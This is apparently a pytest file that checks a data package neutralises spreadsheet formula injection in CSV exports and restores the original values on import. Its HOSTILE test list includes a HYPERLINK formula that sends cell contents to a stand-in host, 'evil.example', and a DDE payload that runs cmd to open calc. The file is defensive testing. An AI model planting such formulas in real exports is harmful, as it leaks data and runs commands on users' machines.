"""CSV cells a spreadsheet would run are written as text, and read back to their value."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from ipkpi.spreadsheet import neutralise, restore, safe_rows
from ipkpi.store import SeriesCatalog, Store, import_file
from ipkpi.store.exporters import export_observations

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+81 3 1234",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", [*HOSTILE, "-5", "+1.5e3", "plain", "'apostrophe", ""])
def test_a_neutralised_cell_restores_to_its_value(text: str) -> None:
    written = neutralise(text)
    assert restore(str(written)) == text
    if text in HOSTILE:
        assert str(written).startswith("'")
    else:
        assert written == text  # numbers and plain texts are written as they are


def test_safe_rows_writes_each_cell_as_neutralise_and_a_float_as_every_digit() -> None:
    rows = [
        [*HOSTILE, "-5", "+1.5e3", "plain", "'apostrophe", ""],
        ["alpha.one.exports.jpn", "2023", 1.4602, -0.5, 4.0, float("-inf"), 13, None],
    ]
    assert safe_rows(rows) == [
        [neutralise(v) for v in rows[0]],
        ["alpha.one.exports.jpn", "2023", "1.4602", "-0.5", "4.0", "'-inf", 13, None],
    ]
    assert safe_rows(rows)[0][:7] == ["'" + text for text in HOSTILE]


def test_export_neutralises_and_import_reads_back(
    store: Store, catalog: SeriesCatalog, tmp_path: Path
) -> None:
    source = tmp_path / "notes.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["series", "period", "value", "note"])
        for year, note in enumerate(HOSTILE, start=2010):
            writer.writerow(["data.store.rank.jpn", year, 13, note])
    import_file(store, source, catalog)
    for format_, name in (("csv", "out.csv"), ("sdmx-csv", "sdmx"), ("datapackage", "pkg")):
        written = export_observations(store, catalog, format_, tmp_path / name)
        table = next(p for p in written if p.name in ("out.csv", "observations.csv"))
        with table.open(encoding="utf-8", newline="") as handle:
            cells = [c for row in csv.reader(handle) for c in row]
        starts = [c for c in cells if c and c[0] in "=+-@\t\r"]
        assert [c for c in starts if not _is_number(c)] == [], format_
    with Store.open(tmp_path / "fresh.db") as fresh:
        import_file(fresh, tmp_path / "out.csv", catalog)
        assert fresh.observations() == store.observations()
        # The source's own apostrophe rule applied on the first import, as on this one.
        notes = sorted(o.note or "" for o in fresh.observations())
        assert notes == sorted(restore(n).strip() for n in HOSTILE)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
